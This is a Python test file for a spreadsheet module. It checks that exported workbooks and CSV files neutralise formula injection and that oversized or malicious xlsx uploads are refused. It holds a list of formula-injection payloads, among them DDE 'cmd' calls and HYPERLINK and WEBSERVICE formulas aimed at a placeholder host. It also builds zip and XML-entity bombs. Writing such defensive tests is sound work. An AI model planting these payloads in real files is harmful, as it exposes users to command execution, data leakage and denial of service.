"""Workbooks from outside are counted before they are opened; in those that go out nothing runs."""

from __future__ import annotations

import csv
import io
import itertools
import tracemalloc
import zipfile
from collections.abc import Callable
from datetime import date, datetime

import openpyxl
import pytest
import time_machine
from hypothesis import given
from hypothesis import strategies as st

from seed import sheets
from seed.sheets import NoTable, Wanted, Why, read
from seed.sheets_written import Book, csv_of, uncalculated

WANTED = Wanted(("编号", "任务"), (("编号",), ("任务",)), most_bytes=8 << 20, most_rows=2000)

# What makes a spreadsheet calculate, call or fetch, with every lead that hides it.
_LEADS = ("", " ", "\u3000", "\t", "\r", "\n", "\u00a0", "\u200b")
_SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−")
_BODIES = (
    "1+1",
    'HYPERLINK("http://x.example/?"&A1,"点")',
    "cmd|' /C calc'!A0",
)
PAYLOADS = [
    *("".join(parts) for parts in itertools.product(_LEADS, _SIGNS, _BODIES)),
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    '=WEBSERVICE("http://x.example")',
    "=IMPORTXML(CONCAT(1),1)",
    "+1-2",
    "-2+3+cmd|' /C calc'!D2",
    '","=1+1',
    '"\n=1+1',
    ";=1+1;",
    "http://x.example",
    "{=SUM(A1:A2)}",
    "=_xlfn.WEBSERVICE(1)",
]


def book(*rows: tuple[object, ...]) -> bytes:
    made = openpyxl.Workbook()
    assert made.active is not None
    for row in rows:
        made.active.append(row)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def repacked(data: bytes, **parts: bytes) -> bytes:
    """The workbook with parts in the place of its own: sheet, shared, styles."""
    names = {
        "xl/worksheets/sheet1.xml": "sheet",
        "xl/sharedStrings.xml": "shared",
        "xl/styles.xml": "styles",
        "xl/workbook.xml": "workbook",
    }
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for entry in old.infolist():
            given_ = parts.get(names.get(entry.filename, ""))
            new.writestr(entry.filename, old.read(entry) if given_ is None else given_)
        for name, part in names.items():
            if name not in old.namelist() and part in parts:
                new.writestr(name, parts[part])
    return out.getvalue()


def of_cells(inside: bytes) -> bytes:
    space = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    return b"<worksheet " + space + b"><sheetData>" + inside + b"</sheetData></worksheet>"


def test_there_are_more_than_three_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) > 300


def test_in_a_workbook_no_payload_is_a_formula_or_a_link_in_any_column() -> None:
    made = Book()
    leaf = made.leaf("表", [10] * 20)
    for payload in PAYLOADS:
        leaf.add([payload] * 20)
    data = made.close()
    read_back = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for row in read_back.worksheets[0].iter_rows() for c in row if c.value is not None]
    assert len(cells) > 300 * 20
    assert {cell.data_type for cell in cells} == {"s"}
    assert not any(cell.hyperlink for cell in cells)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = archive.namelist()
        assert b"<f" not in archive.read("xl/worksheets/sheet1.xml")
    assert not [n for n in names if "externalLink" in n or "vba" in n or "embeddings" in n]


def test_in_a_csv_every_payload_has_a_quote_before_it_and_stays_one_field() -> None:
    data = csv_of([payload] * 20 for payload in PAYLOADS)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [len(row) for row in rows] == [20] * len(PAYLOADS)
    for row, payload in zip(rows, PAYLOADS, strict=True):
        assert row[0] in (payload, f"'{payload}")
        bare = row[0].lstrip(" \u3000\t\r\n\u00a0")
        assert not bare.startswith(_SIGNS), payload


def test_a_csv_opened_as_a_workbook_would_open_it_has_no_formula() -> None:
    made = openpyxl.Workbook()
    assert made.active is not None
    data = csv_of([payload] for payload in PAYLOADS)
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
        made.active.append([cell.strip("\r\n\u200b") for cell in row])
    cells = [cell for row in made.active.iter_rows() for cell in row]
    assert len(cells) >= len(PAYLOADS)
    assert [cell.value for cell in cells if cell.data_type == "f"] == []


@pytest.mark.parametrize("said", ["进展 12%", "3月15日前", "A-1", "（一）", "", "a=b", "'=1"])
def test_what_is_no_formula_stays_as_it_is(said: str) -> None:
    assert uncalculated(said) == said


@given(st.text(max_size=60))
def test_any_text_goes_out_as_a_string_and_comes_back(said: str) -> None:
    made = Book()
    leaf = made.leaf("表", [10])
    leaf.add(["编号", "任务"], bold=True)
    leaf.add(["1", said])
    table = read(made.close(), WANTED)
    assert table.rows[0].said("任务") == sheets.text(said, 400)
    assert not table.rows[0].computed


def test_cells_are_words_days_formulas_and_fractions_and_each_says_which() -> None:
    data = book(
        ("编号", "任务"),
        (8, datetime(2022, 6, 30)),  # noqa: DTZ001  # a cell has no zone
        (2.10, "=1+1"),
        ("2.10", "#REF!"),
    )
    first, second, third = read(data, WANTED).rows
    assert (first.said("编号"), first.days) == ("8", {"任务": date(2022, 6, 30)})
    assert second.fractions == {"编号"} and second.computed == {"任务"}
    assert third.fractions == frozenset() and third.said("编号") == "2.10"
    assert third.computed == {"任务"}, "the result of a broken formula is nobody's word"


@pytest.mark.parametrize("year", [1900, 1904])
def test_both_ways_of_counting_days_give_the_same_day(year: int) -> None:
    made = openpyxl.Workbook()
    made.epoch = openpyxl.utils.datetime.CALENDAR_MAC_1904 if year == 1904 else made.epoch
    assert made.active is not None
    made.active.append(["编号", "任务"])
    made.active.append(["1", date(2022, 6, 30)])
    out = io.BytesIO()
    made.save(out)
    assert read(out.getvalue(), WANTED).rows[0].days == {"任务": date(2022, 6, 30)}


def test_a_sheet_that_lies_about_its_size_is_read_whole() -> None:
    data = book(("编号", "任务"), ("1", "甲"), ("2", "乙"))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        inside = archive.read("xl/worksheets/sheet1.xml")
    assert b'ref="A1:B3"' in inside
    data = repacked(data, sheet=inside.replace(b'ref="A1:B3"', b'ref="A1:B1"'))
    assert [row.said("任务") for row in read(data, WANTED).rows] == ["甲", "乙"]


SMALL = book(("编号", "任务"), ("1", "甲"))
_HEAD = '<row r="1"><c t="inlineStr"><is><t>编号</t></is></c></row>'.encode()
_ENTITY = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "x">]><a>&b;</a>'


def _many_parts() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for number in range(2_100):
            archive.writestr(f"xl/{number}.xml", b"<a/>")
    return out.getvalue()


def _sheet(inside: bytes, after: bytes = b"") -> bytes:
    whole = of_cells(inside).replace(b"</worksheet>", after + b"</worksheet>")
    return repacked(SMALL, sheet=whole)


BOMBS: dict[str, Callable[[], bytes]] = {
    "a million rows": lambda: _sheet(b'<row r="9"/>' * 1_000_001),
    "six million cells in a row": lambda: _sheet(b"<row>" + b"<c/>" * 6_000_000 + b"</row>"),
    "a cell of a hundred megabytes": lambda: _sheet(
        b'<row><c t="str"><v>' + b"x" * (100 << 20) + b"</v></c></row>"
    ),
    "cells for a row of any other program": lambda: _sheet(
        b"<row>" + b"<c/>" * (sheets.MOST_CELLS + 1) + b"</row>"
    ),
    "a row that says it is far away": lambda: _sheet(
        _HEAD + b'<row r="999999999"><c><v>1</v></c></row>'
    ),
    "six million strings": lambda: repacked(
        SMALL, shared=b"<sst>" + b"<si/>" * 6_000_000 + b"</sst>"
    ),
    "a hundred thousand styles": lambda: repacked(
        SMALL, styles=b"<styleSheet><cellXfs>" + b"<xf/>" * 100_000 + b"</cellXfs></styleSheet>"
    ),
    "entities": lambda: repacked(SMALL, sheet=_ENTITY.encode()),
    "entities in UTF-16": lambda: repacked(SMALL, sheet=_ENTITY.encode("utf-16")),
    "merged cells without end": lambda: _sheet(_HEAD, b'<mergeCell ref="A1:B2"/>' * 1_000_001),
    "thousands of parts": _many_parts,
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_is_refused_before_it_is_opened(name: str) -> None:
    data = BOMBS[name]()
    tracemalloc.start()
    try:
        with pytest.raises(NoTable) as refused:
            read(data, WANTED)
        _, most = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert refused.value.why in (Why.TOO_LARGE, Why.TOO_MANY_ROWS, Why.NOT_XLSX, Why.NO_HEADERS)
    assert most < 64 << 20, f"{name}: {most >> 20} MiB"


def test_a_row_that_is_written_leaves_memory() -> None:
    tracemalloc.start()
    try:
        made = Book()
        leaf = made.leaf("表", [10] * 12, frozen=1)
        for number in range(2_000):
            leaf.add([str(number), *(["推进知识产权保护" * 12] * 11)])
        held = tracemalloc.get_traced_memory()[0]
    finally:
        tracemalloc.stop()
    data = made.close()
    assert held < 2 << 20, "what is written leaves memory"
    table = read(data, Wanted(("0",), (("0",),), 8 << 20, 2_000))
    assert len(table.rows) == 1_999


def test_the_same_words_are_the_same_bytes() -> None:
    def made() -> bytes:
        book_ = Book()
        book_.leaf("表", [10]).add(["甲", "乙"])
        return book_.close()

    with time_machine.travel("2024-01-01T00:00:00Z"):
        first = made()
    assert first == made()
